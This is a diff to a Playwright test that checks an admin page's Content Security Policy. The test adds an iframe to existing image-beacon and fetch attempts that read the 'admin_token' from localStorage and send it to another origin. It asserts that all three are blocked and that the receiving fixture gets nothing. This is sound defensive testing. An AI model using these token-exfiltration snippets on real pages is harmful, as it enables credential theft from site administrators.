@@ -19,7 +19,7 @@ const violationsOf = async (page: import('@playwright/test').Page) => {
   return violations;
 };
 
-test('the admin page blocks a fetch and an image beacon to another origin, and the other origin receives nothing', async ({
+test('the admin page blocks a fetch, an image beacon and a frame to another origin, and the other origin receives nothing', async ({
   adminPage: page,
   formsubmit,
 }) => {
@@ -31,6 +31,10 @@ test('the admin page blocks a fetch and an image beacon to another origin, and t
     const token = localStorage.getItem('admin_token') ?? '';
     const image = new Image();
     image.src = `${url}/beacon?t=${token}`;
+    // Frames are allowed for the site's own pages (the page editor's preview), never another origin's.
+    const frame = document.createElement('iframe');
+    frame.src = `${url}/frame?t=${token}`;
+    document.body.append(frame);
     try {
       await fetch(`${url}/ajax/exfiltrate`, { method: 'POST', body: token });
       return 'sent';
@@ -41,6 +45,7 @@ test('the admin page blocks a fetch and an image beacon to another origin, and t
   expect(outcome).toBe('blocked');
   await expect.poll(() => violations.some((text) => text.startsWith('connect-src'))).toBe(true);
   await expect.poll(() => violations.some((text) => text.startsWith('img-src'))).toBe(true);
+  await expect.poll(() => violations.some((text) => text.startsWith('frame-src'))).toBe(true);
   expect(formsubmit.received.length).toBe(before);
 });
 
